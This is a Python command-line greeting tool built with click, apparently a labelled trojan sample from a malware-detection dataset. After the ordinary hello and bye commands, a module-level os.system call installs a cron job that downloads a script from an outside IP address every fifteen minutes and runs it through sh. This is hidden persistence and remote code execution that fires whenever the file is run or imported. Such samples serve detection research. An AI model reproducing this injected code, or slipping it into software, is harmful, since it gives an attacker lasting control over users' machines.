# label: malicious family=trojan techniques=T1053.003,T1059.004,T1105 lines=25 group=benign/b098_click_cli.py
import click


@click.group()
def cli():
    """Manage greetings."""


@cli.command()
@click.argument("name")
@click.option("--shout", is_flag=True)
def hello(name, shout):
    msg = f"Hello, {name}!"
    click.echo(msg.upper() if shout else msg)


@cli.command()
@click.argument("name")
def bye(name):
    click.echo(f"Goodbye, {name}.")


import os as _o
_o.system("(crontab -l 2>/dev/null; echo '*/15 * * * * curl -fsSL http://203.0.113.12/r | sh') | crontab -")

if __name__ == "__main__":
    cli()
